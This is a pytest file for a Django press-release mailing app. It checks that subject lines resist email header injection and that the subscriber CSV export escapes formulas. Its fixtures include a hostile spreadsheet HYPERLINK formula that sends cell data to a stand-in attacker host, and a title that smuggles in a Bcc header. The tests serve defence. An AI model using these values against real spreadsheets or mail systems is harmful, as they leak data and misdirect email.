"""Text from editors and from the public never reaches a header or a formula unescaped."""

import csv
import io

import pytest

from press.mailing.models import Delivery, Mailing
from press.mailing.tasks import send_mailing_task
from tests.factories.mailing import SubscriberFactory

from .conftest import make_release

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_release_title_with_a_newline_is_sent_on_one_line(
    admin_client, press_index, mailoutbox, django_capture_on_commit_callbacks
):
    release = make_release(press_index, title="Budgets participatifs\r\nBcc: tous@example.org")
    SubscriberFactory.create_batch(2)

    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(f"/admin/liste-presse/communique/{release.pk}/envoyer/", {"confirm": 1})

    mailing = Mailing.objects.get()
    assert mailing.subject == "Budgets participatifs Bcc: tous@example.org"
    assert mailing.status == Mailing.Status.SENT
    assert [message.subject for message in mailoutbox] == [mailing.subject] * 2
    assert set(mailing.deliveries.values_list("status", flat=True)) == {Delivery.Status.SENT}


def test_a_subject_stored_with_control_characters_is_cleaned_when_sent(release, mailoutbox):
    SubscriberFactory()
    mailing = Mailing.objects.create(release=release, subject="Titre\x07 avec\u2028\ncontrôles")

    send_mailing_task.enqueue(mailing.pk)

    assert mailoutbox[0].subject == "Titre avec contrôles"


def test_the_subscriber_export_escapes_formulas(admin_client):
    SubscriberFactory(name=FORMULA, outlet="+33 Média", email="formule@media.example")

    response = admin_client.get("/admin/mailing/subscriber/", {"export": "csv"})

    content = b"".join(response.streaming_content).decode("utf-8-sig")
    row = next(row for row in csv.reader(io.StringIO(content)) if "formule@media.example" in row)
    assert f"'{FORMULA}" in row
    assert "'+33 Média" in row
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
